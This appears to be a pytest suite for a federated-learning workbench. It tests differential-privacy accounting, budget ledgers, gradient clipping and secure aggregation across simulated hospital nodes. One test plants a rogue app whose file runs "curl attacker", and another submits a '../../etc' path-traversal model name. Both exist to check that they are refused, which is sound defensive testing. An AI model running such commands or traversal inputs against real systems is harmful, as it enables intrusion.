"""Federated learning: real nodes, real gate and ledger, Flower's runtime; DP claims checked by trying to break them."""

from __future__ import annotations

import math
from concurrent.futures import ThreadPoolExecutor

import httpx
import numpy as np
import pandas as pd
import pytest

import workbench as wb
from tests.conftest import launch
from workbench.demo.data import patients
from workbench.errors import BudgetExceeded, InvalidQuery, NotAuthorized, WorkbenchError
from workbench.channels.fl import accountant
from workbench.channels.fl.wire import FLJobRequest, TrainSpec

HOSPITALS = ("hospital_a", "hospital_b", "hospital_c")
X = ["age", "bmi", "visits"]


# ---------------------------------------------------------------- accountant (exact Gaussian DP)


def test_gdp_curve_matches_known_values():
    # Dong, Roth & Su: delta(eps) for mu-GDP; mu=1 at eps=0 is Phi(1/2) - Phi(-1/2).
    assert accountant.delta_for(1.0, 0.0) == pytest.approx(0.3829249225, abs=1e-9)
    assert accountant.delta_for(1.0, 1.0) == pytest.approx(0.1269367375, abs=1e-9)
    # Balle & Wang's analytic Gaussian: sigma=1 (sensitivity 1) reaches delta=1e-5 at eps ~= 4.4
    # (the classical sqrt(2 ln(1.25/delta))/eps bound would need eps ~ 4.84).
    eps = accountant.epsilon_for(1.0, 1e-5)
    assert accountant.delta_for(1.0, eps) == pytest.approx(1e-5, rel=1e-6)
    assert 4.3 < eps < 4.5
    assert accountant.mu_for(eps, 1e-5) == pytest.approx(1.0, rel=1e-6)


def test_gdp_delta_equals_privacy_loss_expectation():
    """delta(eps) = E[(1 - e^(eps - L))_+] for the privacy-loss variable L ~ N(mu^2/2, mu^2) (PLD view)."""
    mu, eps = 0.8, 0.5
    L = np.random.default_rng(0).normal(mu * mu / 2, mu, 4_000_000)
    monte_carlo = np.mean(np.clip(1 - np.exp(eps - L), 0, None))
    assert accountant.delta_for(mu, eps) == pytest.approx(monte_carlo, rel=0.01)


def test_composition_is_exact_and_below_rdp():
    # k Gaussians with noise multiplier z compose to mu = sqrt(k)/z: same curve as one with z/sqrt(k)
    k, z = 16, 8.0
    assert accountant.epsilon_for(math.sqrt(k) / z, 1e-6) == pytest.approx(accountant.epsilon_for(1 / (z / 4), 1e-6))
    for mu in (0.1, 0.5, 1.0, 2.0):
        exact, rdp = accountant.epsilon_for(mu, 1e-6), accountant.rdp_epsilon(mu, 1e-6)
        assert exact <= rdp  # RDP is a (looser) upper bound
        assert rdp < exact * 1.6


def test_plan_charges_add_up_to_the_job_epsilon():
    plan = accountant.plan_job(2.0, 1e-5, rounds=5, local_steps=10)
    charges = [plan.charge(i) for i in range(5)]
    assert sum(c[0] for c in charges) == pytest.approx(2.0, abs=1e-9)
    assert charges[0][1] == 1e-5 and all(c[1] == 0 for c in charges[1:])
    assert all(c[0] > 0 for c in charges)
    # the composed mu of every release the plan makes is the job's mu
    mu2 = 1 / plan.sigma_count ** 2 + 5 * (1 / plan.sigma_metrics ** 2 + 10 / plan.sigma_grad ** 2)
    assert math.sqrt(mu2) == pytest.approx(plan.mu, rel=1e-9)
    assert accountant.epsilon_for(plan.mu, 1e-5) <= 2.0 + 1e-9


# ---------------------------------------------------------------- node side, in process (real gate, ledger, workers)


@pytest.fixture
def fl_service(service):
    from workbench.demo.nodes import ensure_accounts
    from workbench.node.auth import Principal

    service.pool._size = 1
    ensure_accounts(service)
    return service, Principal("analyst", "analyst")


def _job(service, principal, **overrides):
    from workbench.channels.fl.jobs import registry

    spec = dict(model="logistic_regression", y="readmitted", x=X, rounds=3, epsilon=1.5, delta=1e-6)
    spec.update(overrides)
    return registry(service).create(principal, "patients", FLJobRequest(spec=TrainSpec(**spec)))


def _grant(service):
    from workbench.node import admin

    return [g for g in admin.list_grants(service.store) if g.user == "analyst" and g.dataset == "patients"][0]


def test_each_round_is_charged_and_a_round_beyond_the_plan_refused(fl_service):
    from workbench.channels.fl.jobs import run_round

    service, analyst = fl_service
    job = _job(service, analyst)
    weights = [np.zeros(3), np.zeros(1)]
    spent = []
    for _ in range(3):
        result = run_round(service, job, weights)
        weights = [np.asarray(w) for w in result["weights"]]
        spent.append(_grant(service).epsilon_spent)
    assert spent == pytest.approx(list(job.plan.cumulative), abs=1e-9)
    assert spent[-1] == pytest.approx(1.5)
    assert _grant(service).delta_spent == pytest.approx(1e-6)
    with pytest.raises(BudgetExceeded) as info:
        run_round(service, job, weights)
    assert info.value.code == "fl_rounds_exhausted"
    assert _grant(service).epsilon_spent == pytest.approx(1.5)  # the refused round charged nothing
    # the ledger names the channel
    from sqlalchemy import select

    from workbench.node.store import Charge

    with service.store.transaction() as session:
        channels = [c.channel for c in session.execute(select(Charge)).scalars()]
    assert channels.count("fl") == 3


def test_round_that_would_overspend_the_grant_is_refused_before_reading_data(fl_service):
    from workbench.channels.fl.jobs import run_round

    service, analyst = fl_service
    job = _job(service, analyst, epsilon=3.0)
    run_round(service, job, [np.zeros(3), np.zeros(1)])
    # the analyst spends most of what is left elsewhere; the next round no longer fits
    from workbench.node.ledger import Cost

    entry = service.catalog.get("patients")
    left = 10.0 - _grant(service).epsilon_spent
    service.gate.release(analyst, entry, "dp", "count", {"other": 1}, Cost(left - 0.05, 0.0),
                         compute=lambda: {"ok": True})
    before = _grant(service).epsilon_spent
    calls = []
    real_run = service.pool.run
    service.pool.run = lambda *a, **k: calls.append(a) or real_run(*a, **k)
    with pytest.raises(BudgetExceeded) as info:
        run_round(service, job, [np.zeros(3), np.zeros(1)])
    assert info.value.code == "budget_exceeded"
    assert calls == []  # refused before any worker touched the data
    assert _grant(service).epsilon_spent == pytest.approx(before)
    assert job.releases == 1


def test_job_creation_checks_the_whole_job_against_the_grant(fl_service):
    from workbench.node.ledger import Cost

    service, analyst = fl_service
    entry = service.catalog.get("patients")
    service.gate.release(analyst, entry, "dp", "count", {"other": 2}, Cost(2.0, 0.0), compute=lambda: {"ok": True})
    with pytest.raises(BudgetExceeded):
        _job(service, analyst, epsilon=9.0, rounds=2)  # more than the 8 left on the grant of 10
    assert _grant(service).epsilon_spent == pytest.approx(2.0)  # pricing a job charges nothing


def test_noise_is_really_added_at_the_planned_scale():
    """Same data, same weights, many runs: the spread of the update matches the calibrated Gaussian."""
    import tempfile
    from pathlib import Path

    from workbench.demo.data import write_demo_data
    from workbench.demo.nodes import PATIENT_COLUMNS
    from workbench.channels.fl.worker import local_round
    from workbench.channels.fl.trainers import Hyperparameters, feature_map
    from workbench.protocol import ColumnInfo, DatasetInfo

    data = write_demo_data(Path(tempfile.mkdtemp()))
    info = DatasetInfo(name="patients", tier="private", max_rows=100_000,
                       columns=[ColumnInfo(name=n, **c) for n, c in PATIENT_COLUMNS.items()])
    fmap = feature_map(info, "classification", X, "readmitted")
    plan = accountant.plan_job(0.5, 1e-6, rounds=10, local_steps=1)
    hp = Hyperparameters(learning_rate=1.0, local_steps=1, momentum=0.0, l2=0.0).model_dump()
    payload = dict(model="logistic_regression", features=fmap.as_dict(), hyperparameters=hp, max_contributions=1,
                   path=str(data["hospital_c"]), format="parquet", info=info.model_dump(mode="json"), weights=[[0.0, 0.0, 0.0], [0.0]], count=10_000.0,
                   sigma_count=plan.sigma_count, sigma_metrics=plan.sigma_metrics, sigma_grad=plan.sigma_grad,
                   local_steps=1)
    runs = np.array([local_round(payload)["weights"][0] for _ in range(60)])
    expected = 1.0 * 1.0 * plan.sigma_grad / 10_000.0  # lr * C * sigma / count
    observed = runs.std(axis=0, ddof=1)
    assert np.all(observed > 0.6 * expected) and np.all(observed < 1.5 * expected)
    accs = [local_round(payload)["metrics"]["accuracy"] for _ in range(5)]
    assert len(set(accs)) == 5  # the metrics are noised too


def test_clipped_gradient_sums_equal_clipping_each_record():
    """The fast paths (closed form for linear models, torch.func for the MLP) clip each record exactly."""
    from workbench.channels.fl.trainers import TRAINERS

    rng = np.random.default_rng(3)
    Xs, ys = rng.uniform(-1, 1, (300, 4)), (rng.random(300) < 0.3).astype(float)
    for name, weights in [("logistic_regression", [rng.normal(0, 2, 4), np.array([0.5])]),
                          ("linear_regression", [rng.normal(0, 2, 4), np.array([-0.2])]),
                          ("mlp", TRAINERS["mlp"].init(4, {"hidden": 5}))]:
        trainer = TRAINERS[name]
        grads = trainer.per_example_grads(weights, Xs, ys)
        for clip in (0.05, 0.5, 50.0):
            norms = np.linalg.norm(grads, axis=1)
            expected = (grads * np.minimum(1.0, clip / np.maximum(norms, 1e-12))[:, None]).sum(axis=0)
            got = trainer.clipped_grad_sum(weights, Xs, ys, clip, trainer.prepare(Xs))
            assert np.allclose(got, expected, atol=1e-9), (name, clip)
        assert np.all(np.linalg.norm(grads * np.minimum(1.0, 0.05 / np.linalg.norm(grads, axis=1))[:, None],
                                     axis=1) <= 0.05 + 1e-12)


def test_mlp_gradients_match_finite_differences_and_numpy_forward():
    from workbench.channels.fl.trainers import TRAINERS

    mlp = TRAINERS["mlp"]
    rng = np.random.default_rng(4)
    Xs, ys = rng.uniform(-1, 1, (3, 3)), np.array([1.0, 0.0, 1.0])
    weights = [w + rng.normal(0, 0.3, w.shape) for w in mlp.init(3, {"hidden": 4})]
    assert [w.shape for w in weights] == [(4, 3), (4,), (1, 4), (1,)] == mlp.shapes(3, {"hidden": 4})
    flat = np.concatenate([w.ravel() for w in weights])

    def loss(theta, i):
        from workbench.channels.fl.worker import _unflatten

        p = mlp.predict_raw(_unflatten(theta, [w.shape for w in weights]), Xs[i:i + 1])[0]
        return -(ys[i] * np.log(p) + (1 - ys[i]) * np.log(1 - p))

    grads = mlp.per_example_grads(weights, Xs, ys)
    for i in range(3):
        numeric = [(loss(flat + 1e-6 * e, i) - loss(flat - 1e-6 * e, i)) / 2e-6 for e in np.eye(flat.size)]
        assert np.allclose(grads[i], numeric, atol=1e-6)


def test_hyperparameters_are_checked_per_model():
    from workbench.channels.fl.trainers import get_trainer, hyperparameters

    with pytest.raises(InvalidQuery):  # per-record gradients of a big network would swamp a node's worker
        get_trainer("mlp").check_size(2_000, {"hidden": 128})
    get_trainer("mlp").check_size(64, {"hidden": 128})
    assert hyperparameters({}, get_trainer("mlp")).hidden == 16
    assert hyperparameters({"hidden": 8}, get_trainer("mlp")).hidden == 8
    for bad, trainer in [({"hidden": 8}, "logistic_regression"), ({"hidden": 0}, "mlp"), ({"hidden": 10_000}, "mlp"),
                         ({"layers": 3}, "mlp")]:
        with pytest.raises(InvalidQuery):
            hyperparameters(bad, get_trainer(trainer))


def test_bad_requests_get_stable_codes(app_client):
    base = {"y": "readmitted", "x": X, "rounds": 2, "epsilon": 1.0, "delta": 1e-6}
    cases = [({**base, "model": "resnet152"}, "fl_unknown_model"),
             ({**base, "model": "logistic_regression", "x": ["patient_id"]}, "wrong_type"),
             ({**base, "model": "logistic_regression", "y": "region"}, "wrong_type"),
             ({**base, "model": "logistic_regression", "y": "age"}, "invalid_query"),
             ({**base, "model": "logistic_regression", "x": ["nope"]}, "unknown_column"),
             ({**base, "model": "logistic_regression", "hyperparameters": {"learning_rate": 1e9}}, "invalid_query"),
             ({**base, "model": "logistic_regression", "hyperparameters": {"code": 1}}, "invalid_query"),
             ({**base, "model": "../../etc"}, "invalid_body")]
    for spec, code in cases:
        r = app_client.post("/v1/datasets/patients/fl/jobs", json={"spec": spec}, headers=app_client.analyst)
        assert r.status_code in (400, 422), (spec, r.text)
        assert r.json()["code"] == code, (spec, r.json())
    r = app_client.post("/v1/datasets/patients/fl/jobs", json={"spec": {**base, "model": "logistic_regression",
                                                                         "secure_aggregation": True}},
                        headers=app_client.analyst)
    assert r.json()["code"] == "fl_secagg_needs_nodes"


def test_message_endpoint_refuses_strangers_garbage_and_plain_fit_under_secagg(app_client):
    from flwr.app import MessageType, Metadata
    from flwr.app.message.message import make_message
    from flwr.common import FitIns, ndarrays_to_parameters
    from flwr.compat.common import recorddict_compat as compat
    from flwr.common.serde import message_to_proto

    spec = {"model": "logistic_regression", "y": "readmitted", "x": X, "rounds": 2, "epsilon": 1.0, "delta": 1e-6,
            "secure_aggregation": True}
    r = app_client.post("/v1/datasets/patients/fl/jobs", json={"spec": spec, "nodes": 3}, headers=app_client.analyst)
    assert r.status_code == 200, r.text
    job_id = r.json()["job_id"]
    url = f"/v1/fl/jobs/{job_id}/messages"
    # wrong SuperNode key, no token
    assert app_client.post(url, json={"message": "AA=="}, headers={"X-Workbench-FL-Key": "x"}).status_code == 401
    assert app_client.post(url, json={"message": "AA=="}).status_code == 401
    # garbage bytes
    r = app_client.post(url, json={"message": "bm90IGEgcHJvdG8="}, headers=app_client.analyst)
    assert r.json()["code"] == "fl_message_refused"
    # a plain (un-masked) fit for a secure-aggregation job: refused, nothing charged
    content = compat.fitins_to_recorddict(FitIns(ndarrays_to_parameters([np.zeros(3), np.zeros(1)]), {}), True)
    def message(kind):
        meta = Metadata(run_id=1, message_id="", src_node_id=0, dst_node_id=7, reply_to_message_id="", group_id="1",
                        created_at=0.0, ttl=3600.0, message_type=kind)
        return make_message(metadata=meta, content=content)

    msg = message(MessageType.TRAIN)
    import base64

    body = {"message": base64.b64encode(message_to_proto(msg).SerializeToString()).decode()}
    r = app_client.post(url, json=body, headers=app_client.analyst)
    assert r.json()["code"] == "fl_secagg_required", r.text
    # an evaluate message (metrics on private rows without a release) is refused
    msg = message(MessageType.EVALUATE)
    body = {"message": base64.b64encode(message_to_proto(msg).SerializeToString()).decode()}
    assert app_client.post(url, json=body, headers=app_client.analyst).json()["code"] == "fl_message_refused"
    # someone else's job
    owner_view = app_client.get(f"/v1/fl/jobs/{job_id}", headers=app_client.analyst).json()
    assert owner_view["rounds_done"] == 0 and owner_view["epsilon_spent"] == 0
    r = app_client.get(f"/v1/fl/jobs/{'x' * 16}", headers=app_client.analyst)
    assert r.json()["code"] == "fl_unknown_job"


def test_only_allowed_flower_apps_run(service, tmp_path):
    from workbench.channels.fl.apps import builtin_fab_sha256, check_fab, write_app_dir

    check_fab(service.config, builtin_fab_sha256())  # the built-in app: always
    rogue = write_app_dir(tmp_path / "rogue")
    (rogue / "evil.py").write_text("import os; os.system('curl attacker')\n")
    from flwr.cli.build import build_fab_from_disk
    import hashlib

    rogue_hash = hashlib.sha256(build_fab_from_disk(rogue)).hexdigest()
    assert rogue_hash != builtin_fab_sha256()
    with pytest.raises(NotAuthorized) as info:
        check_fab(service.config, rogue_hash)
    assert info.value.code == "fl_fab_not_allowed"
    allowed = service.config.model_copy(update={"fl": service.config.fl.model_copy(
        update={"allowed_fabs": [rogue_hash]})})
    check_fab(allowed, rogue_hash)
    # deterministic builds: the owner can reproduce the hash they reviewed
    assert hashlib.sha256(build_fab_from_disk(rogue)).hexdigest() == rogue_hash


# ---------------------------------------------------------------- three real nodes, Flower's simulation runtime


@pytest.fixture(scope="module")
def three_nodes(tmp_path_factory):
    root = tmp_path_factory.mktemp("fl")
    with ThreadPoolExecutor(3) as pool:
        nodes = list(pool.map(lambda h: launch(root / h, h), HOSPITALS))
    yield nodes
    for node in nodes:
        node.stop()


def _spent(node) -> float:
    r = httpx.get(f"{node.url}/v1/datasets/patients/budget", headers={"Authorization": f"Bearer {node.analyst_token}"})
    return r.json()["epsilon_spent"]


def _fl_history(node) -> list[dict]:
    r = httpx.get(f"{node.url}/v1/history", headers={"Authorization": f"Bearer {node.analyst_token}"})
    return [h for h in r.json() if h["channel"] == "fl"]


def test_three_nodes_secure_aggregation_trains_and_charges_each_ledger_per_round(three_nodes):
    fed = wb.federation([wb.connect(n.url, token=n.analyst_token) for n in three_nodes])
    job = fed.dataset("patients").train(model="logistic_regression", y="readmitted", x=X, rounds=3, epsilon=2.0,
                                        delta=1e-6, secure_aggregation=True)
    metrics = job.progress(timeout=180)
    model = job.result(timeout=60)
    assert list(metrics["round"].unique()) == [1, 2, 3] and len(metrics) == 9
    per_round = model.rounds()
    # round 1 reports the initial (all-zero) model: it predicts "readmitted" for everyone (~25% right)
    assert per_round["accuracy"].iloc[0] < 0.4
    assert per_round["accuracy"].iloc[-1] > 0.7 and per_round["loss"].iloc[-1] < per_round["loss"].iloc[0]
    # the analyst's own data: the model beats the majority-free baseline of round 0
    local = patients(5_000, 777).to_pandas()
    assert model.score(local) > 0.72
    assert set(np.unique(model.predict(local))) <= {True, False}
    assert model.predict_proba(local).shape == (5_000,)
    # each node: three fl releases in its ledger, spending exactly the job's epsilon
    for node in three_nodes:
        assert len(_fl_history(node)) == 3
        assert _spent(node) == pytest.approx(2.0, abs=1e-6)
    assert set(model.privacy["epsilon_spent"].round(6)) == {2.0}
    assert set(model.privacy["rounds"]) == {3}
    fig = model.plot()
    assert len(fig.axes) == 2
    # what came back: aggregated weights, noisy per-node metrics; no per-node update anywhere
    assert all("weights" not in m for e in job.rounds for m in e["nodes"])
    assert set(metrics.columns) == {"round", "node", "loss", "accuracy", "count", "epsilon_spent", "delta_spent"}


@pytest.mark.slow
def test_three_nodes_torch_mlp_under_secure_aggregation_trains_and_charges_each_ledger_per_round(three_nodes):
    fed = wb.federation([wb.connect(n.url, token=n.analyst_token) for n in three_nodes])
    before = [(_spent(n), len(_fl_history(n))) for n in three_nodes]
    job = fed.dataset("patients").train(model="mlp", y="readmitted", x=["age", "bmi", "visits", "smoker"], rounds=3,
                                        epsilon=3.0, delta=1e-6, hyperparameters={"hidden": 8, "local_steps": 5},
                                        secure_aggregation=True)
    model = job.result(timeout=240)
    assert [w.shape for w in model.weights] == [(8, 4), (8,), (1, 8), (1,)]
    per_round = model.rounds()
    # round 1 reports the seeded start (P = 0.5 everywhere); training lowers the (noisy) loss
    assert per_round["loss"].iloc[-1] < per_round["loss"].iloc[0] - 0.05
    assert per_round["accuracy"].iloc[-1] > per_round["accuracy"].iloc[0] + 0.2
    local = patients(5_000, 778).to_pandas()
    assert model.predict_proba(local).shape == (5_000,)
    assert set(np.unique(model.predict(local))) <= {True, False}
    assert model.score(local) > 0.7
    with pytest.raises(WorkbenchError):
        model.coefficients()
    # each node: one fl release per round, together exactly the job's epsilon
    for node, (spent, releases) in zip(three_nodes, before):
        assert len(_fl_history(node)) == releases + 3
        assert _spent(node) - spent == pytest.approx(3.0, abs=1e-6)
    assert set(model.privacy["rounds"]) == {3}
    assert all("weights" not in m for e in job.rounds for m in e["nodes"])  # SecAgg+: no node's update


def test_round_refused_on_one_node_stops_the_job_with_its_code(three_nodes):
    fed = wb.federation([wb.connect(n.url, token=n.analyst_token) for n in three_nodes])
    ds = fed.dataset("patients")
    job = ds.train(model="logistic_regression", y="readmitted", x=X, rounds=2, epsilon=3.0, delta=1e-6, start=False)
    # after the job was priced, the analyst spends node c's budget elsewhere: its first round no longer fits
    c = ds.handles[2]
    left = c.budget()["epsilon"]
    c.count().release(epsilon=left - 0.1)
    before = [_spent(n) for n in three_nodes]
    job.start()
    with pytest.raises(BudgetExceeded) as info:
        job.result(timeout=180)
    assert info.value.code == "budget_exceeded"
    assert _spent(three_nodes[2]) == pytest.approx(before[2])  # the refusing node charged nothing
    assert len(job.rounds) == 0


def test_embedded_node_alone_works(tmp_path):
    """wb.connect() (Binder, papermill): a federation of one embedded node, no servers to run."""
    fed = wb.federation([wb.connect()])
    job = fed.dataset("patients").train(model="linear_regression", y="cost", x=["age", "visits", "smoker"],
                                        rounds=2, epsilon=1.0, delta=1e-7)
    model = job.result(timeout=240)
    assert len(model.history) == 2 and model.history["accuracy"].isna().all()
    local = patients(2_000, 5).to_pandas()
    rmse = model.score(local)
    baseline = float(np.sqrt(np.mean((local["cost"] - local["cost"].mean()) ** 2)))
    assert rmse < baseline * 1.05
    assert model.coefficients().index[-1] == "intercept"
    with pytest.raises(InvalidQuery):
        fed.dataset("patients").train(model="logistic_regression", y="readmitted", x=X, secure_aggregation=True)
    with pytest.raises(WorkbenchError):
        model.score(pd.DataFrame({"age": [1]}))
